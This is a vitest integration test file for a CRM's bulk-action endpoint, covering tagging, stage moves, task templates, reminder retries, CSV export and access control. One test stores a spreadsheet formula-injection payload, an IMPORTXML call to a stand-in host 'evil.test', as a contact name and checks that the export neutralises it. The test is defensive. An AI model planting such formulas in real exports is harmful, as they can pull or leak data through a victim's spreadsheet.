import { parseCsv } from '@grouptrack/domain';
import { and, count, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { activities, contactTags, tasks } from '../../platform/db/team-schema';
import { openEventStream } from '../../testing/event-stream';
import { startTestServer, type TestServer } from '../../testing/test-server';
import type { TestClient } from '../../testing/test-client';

let server: TestServer;
let owner: TestClient;
let teamUID: string;
let pipeline: { groupUID: string; stages: { stageUID: string }[] };
let tagIds: string[];

beforeAll(async () => {
  server = await startTestServer();
  const team = await server.createTeam({ extraSeats: 20 });
  ({ owner, teamUID } = team);
  pipeline = await server.createPipeline(team, 'Bulk', ['A', 'B']);
  tagIds = (await server.createTagSet(team, 'Bulk tags', ['hot', 'cold'])).tags.map((tag) => tag.tagUID);
});
afterAll(async () => {
  await server.stop();
});

const waitForJob = (jobId: string) => server.waitForJob(owner, teamUID, { bulkJobId: jobId });

/** Many contacts straight into the database, in the first stage of the file's pipeline. */
const seedContacts = (prefix: string, total: number) =>
  server.insertContacts(teamUID, {
    prefix,
    total,
    pipelineId: pipeline.groupUID,
    stageId: pipeline.stages[0]!.stageUID,
  });

describe('POST /search/v2/bulk', () => {
  it('tags every contact a search matches, in batches, with progress events and one activity each', async () => {
    const ids = await seedContacts('many', 4500);
    const stream = await openEventStream(owner, teamUID);
    const started = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'addTags', tagIds: [tagIds[0]] },
      target: {
        filter: { objectToFilter: { pipelineId: pipeline.groupUID }, searchObj: { text: 'person many' } },
      },
    });
    expect(started.status).toBe(202);
    expect(started.body.data.matched).toBe(4500);
    const job = await waitForJob(started.body.data.jobId);
    expect(job).toMatchObject({ processed: 4500, total: 4500 });
    const progress = await stream.next(
      (event) => event.entity === 'bulk_job' && event.data?.status === 'completed',
    );
    expect(progress.data).toMatchObject({ processed: 4500, total: 4500, type: 'addTags' });
    expect(
      stream.received.filter((event) => event.entity === 'bulk_job' && event.data?.status === 'running')
        .length,
    ).toBe(2);
    stream.close();

    const db = server.databases.forTeam(teamUID);
    const [tagged] = await db
      .select({ value: count() })
      .from(contactTags)
      .where(and(eq(contactTags.teamId, teamUID), eq(contactTags.tagId, tagIds[0]!)));
    expect(tagged!.value).toBe(4500);
    const [written] = await db
      .select({ value: count() })
      .from(activities)
      .where(and(eq(activities.teamId, teamUID), eq(activities.type, 'tag')));
    expect(written!.value).toBe(4500);

    // Running the same job again (a retry after a crash) changes nothing.
    await server.server.context.bulk.runBulkJob.handle({ teamUID, jobId: started.body.data.jobId });
    const [again] = await db
      .select({ value: count() })
      .from(activities)
      .where(and(eq(activities.teamId, teamUID), eq(activities.type, 'tag')));
    expect(again!.value).toBe(4500);

    const removed = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'delete' },
      target: { GTIDs: ids },
    });
    await waitForJob(removed.body.data.jobId);
    expect((await owner.post('/search/v2', { teamUID })).body.data.total).toBe(0);
  });

  it('moves listed contacts to a stage, at the end, with their history; and takes them out of the pipeline', async () => {
    const ids = await seedContacts('move', 5);
    const moved = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'moveStage', pipelineId: pipeline.groupUID, stageId: pipeline.stages[1]!.stageUID },
      target: { GTIDs: ids.slice(0, 3) },
    });
    expect(moved.body.data.matched).toBe(3);
    await waitForJob(moved.body.data.jobId);
    const board = (
      await owner.post('/search/v2', {
        teamUID,
        objectToFilter: { pipelineId: pipeline.groupUID },
        isPipelineInitial: true,
        paging: { from: 0, size: 10 },
      })
    ).body.data.stages;
    expect(board[1].hits.map((hit: { GTID: string }) => hit.GTID)).toEqual(ids.slice(0, 3));
    const contact = (await owner.get(`/api/v1/teams/${teamUID}/contacts/${ids[0]}`)).body.data;
    expect(contact.groupData[pipeline.groupUID].stagesHistory.at(-1).stage).toBe(
      pipeline.stages[1]!.stageUID,
    );

    const out = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'removeFromPipeline', pipelineId: pipeline.groupUID },
      target: { GTIDs: ids },
    });
    await waitForJob(out.body.data.jobId);
    const left = (
      await owner.post('/search/v2', { teamUID, objectToFilter: { pipelineId: pipeline.groupUID } })
    ).body.data.total;
    expect(left).toBe(0);
  });

  it('gives every matched contact a task from a template, with its activity and its reminder when due', async () => {
    const ids = await seedContacts('tasked', 2500);
    const template = (
      await owner.post(`/api/v1/teams/${teamUID}/task-templates`, {
        name: 'Welcome call',
        assigneeUID: null,
        dueInDays: 2,
        dueTime: '10:00',
        reminder: 'none',
      })
    ).body.data;
    const started = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'createTask', templateId: template.templateUID },
      target: { filter: { objectToFilter: { pipelineId: pipeline.groupUID }, searchObj: 'person tasked' } },
    });
    expect(started.status).toBe(202);
    expect(started.body.data.matched).toBe(2500);
    await waitForJob(started.body.data.jobId);

    const db = server.databases.forTeam(teamUID);
    const [made] = await db
      .select({ value: count() })
      .from(tasks)
      .where(and(eq(tasks.teamId, teamUID), eq(tasks.taskName, 'Welcome call')));
    expect(made!.value).toBe(2500);
    const contactTasks = (await owner.get(`/api/v1/teams/${teamUID}/tasks?GTID=${ids[7]}`)).body.data;
    expect(contactTasks).toEqual([
      expect.objectContaining({
        taskName: 'Welcome call',
        GTID: ids[7],
        assigneeUID: (await owner.me()).uid,
      }),
    ]);
    const history = (await owner.get(`/api/v1/teams/${teamUID}/contacts/${ids[7]}/activities`)).body.data;
    expect(history.items.some((entry: { type: string }) => entry.type === 'task')).toBe(true);
    // A retried job makes no second task.
    await server.server.context.bulk.runBulkJob.handle({ teamUID, jobId: started.body.data.jobId });
    const [again] = await db
      .select({ value: count() })
      .from(tasks)
      .where(and(eq(tasks.teamId, teamUID), eq(tasks.taskName, 'Welcome call')));
    expect(again!.value).toBe(2500);

    const unknown = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'createTask', templateId: 'no-such-template' },
      target: { GTIDs: ids.slice(0, 1) },
    });
    expect(unknown.status).toBe(404);
    expect(unknown.body.error.message).toBe('Task template not found.');
    // Tasks due at midnight today remind at once: their reminders are queued with each batch.
    const urgent = (
      await owner.post(`/api/v1/teams/${teamUID}/task-templates`, {
        name: 'Urgent call',
        assigneeUID: null,
        dueInDays: 0,
        dueTime: '00:00',
        reminder: 'in-app',
      })
    ).body.data;
    const reminded = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'createTask', templateId: urgent.templateUID },
      target: { GTIDs: ids.slice(0, 3) },
    });
    await waitForJob(reminded.body.data.jobId);
    await expect
      .poll(async () => (await owner.get(`/api/v1/teams/${teamUID}/reminders`)).body.data.length, {
        timeout: 15_000,
      })
      .toBe(3);

    const cleanup = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'delete' },
      target: { GTIDs: ids },
    });
    await waitForJob(cleanup.body.data.jobId);
  });

  it('queues the reminders of its last batch again when it stops between the batch and its reminders', async () => {
    const ids = await seedContacts('reminded again', 3);
    const template = (
      await owner.post(`/api/v1/teams/${teamUID}/task-templates`, {
        name: 'Call now',
        dueInDays: 0,
        dueTime: '00:00',
        reminder: 'in-app',
      })
    ).body.data;
    const remindersOf = async () =>
      (await owner.get(`/api/v1/teams/${teamUID}/reminders`)).body.data.filter(
        (reminder: { taskName: string }) => reminder.taskName === 'Call now',
      ).length;
    // The process stops after the batch commits, before its reminders are queued.
    const { queue } = server.server.context;
    const sendMany = queue.sendMany.bind(queue);
    queue.sendMany = () => {
      queue.sendMany = sendMany;
      return Promise.reject(new Error('stopped before the reminders were queued'));
    };
    const started = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'createTask', templateId: template.templateUID },
      target: { GTIDs: ids },
    });
    await waitForJob(started.body.data.jobId);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(await remindersOf()).toBe(0);

    // The job runs again (pg-boss retries a failed job): the 3 tasks remind, once each.
    await server.server.context.bulk.runBulkJob.handle({ teamUID, jobId: started.body.data.jobId });
    await server.server.context.bulk.runBulkJob.handle({ teamUID, jobId: started.body.data.jobId });
    await expect.poll(remindersOf, { timeout: 15_000 }).toBe(3);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(await remindersOf()).toBe(3);
  });

  it('exports the matched contacts as CSV once the job is done', async () => {
    const ids = await seedContacts('export', 3);
    const started = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'export' },
      target: { GTIDs: ids.slice(0, 2) },
    });
    expect(started.body.data.matched).toBe(2);
    await waitForJob(started.body.data.jobId);
    const csv = await owner.get(`/api/v1/teams/${teamUID}/bulk-jobs/${started.body.data.jobId}/export.csv`);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = parseCsv(csv.body as string);
    expect(
      rows
        .slice(1)
        .map((row) => row[0])
        .sort(),
    ).toEqual(ids.slice(0, 2).sort());
    const stranger = await server.signUp();
    expect(
      (await stranger.get(`/api/v1/teams/${teamUID}/bulk-jobs/${started.body.data.jobId}/export.csv`)).status,
    ).toBe(404);
  });

  it("neutralises formula cells in an export's CSV, as the contact export does", async () => {
    const person = (
      await owner.post(`/api/v1/teams/${teamUID}/contacts`, {
        name: '=IMPORTXML("http://evil.test","//a")',
        phoneNumber: '+1 555 010 7777',
      })
    ).body.data;
    const started = await owner.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'export' },
      target: { GTIDs: [person.GTID] },
    });
    await waitForJob(started.body.data.jobId);
    const csv = await owner.get(`/api/v1/teams/${teamUID}/bulk-jobs/${started.body.data.jobId}/export.csv`);
    const [header, row] = parseCsv(csv.body as string);
    expect(row![header!.indexOf('Full Name')]).toBe('\'=IMPORTXML("http://evil.test","//a")');
    expect(row![header!.indexOf('Phone')]).toBe("'+15550107777");
  });

  it('limits a member to contacts they may see and refuses them deletes', async () => {
    const hidden = (
      await owner.post(`/api/v1/teams/${teamUID}/pipelines`, { nickName: 'Hidden', stages: [{ name: 'H' }] })
    ).body.data;
    const secret = (
      await owner.post(`/api/v1/teams/${teamUID}/contacts`, {
        name: 'Secret',
        pipeline: { pipelineId: hidden.groupUID },
      })
    ).body.data;
    const invite = await owner.post(`/api/v1/teams/${teamUID}/invitations`, {
      groupAccess: [pipeline.groupUID],
    });
    const member = await server.signUp();
    await member.post(`/api/v1/invitations/${invite.body.data.inviteCode}/accept`);
    const tagged = await member.post('/search/v2/bulk', {
      teamUID,
      action: { type: 'addTags', tagIds: [tagIds[1]] },
      target: { GTIDs: [secret.GTID] },
    });
    expect(tagged.body.data.matched).toBe(0);
    expect(
      (
        await member.post('/search/v2/bulk', {
          teamUID,
          action: { type: 'delete' },
          target: { GTIDs: [secret.GTID] },
        })
      ).status,
    ).toBe(403);
    const otherJob = await member.get(`/api/v1/teams/${teamUID}/bulk-jobs/${tagged.body.data.jobId}`);
    expect(otherJob.status).toBe(200);
  });

  it('answers 401 signed out, 404 for another team, and 400 naming the field', async () => {
    const body = { teamUID, action: { type: 'delete' }, target: { GTIDs: ['x'] } };
    expect((await server.client().post('/search/v2/bulk', body)).status).toBe(401);
    expect((await (await server.signUp()).post('/search/v2/bulk', body)).status).toBe(404);
    const bad = await owner.post('/search/v2/bulk', { ...body, action: { type: 'explode' } });
    expect(bad.status).toBe(400);
    expect(bad.body.error.message).toMatch(/^Invalid body\.action/);
    const badTag = await owner.post('/search/v2/bulk', {
      ...body,
      action: { type: 'addTags', tagIds: ['nope'] },
    });
    expect(badTag.body.error.message).toMatch(/^Invalid action\.tagIds/);
  });
});
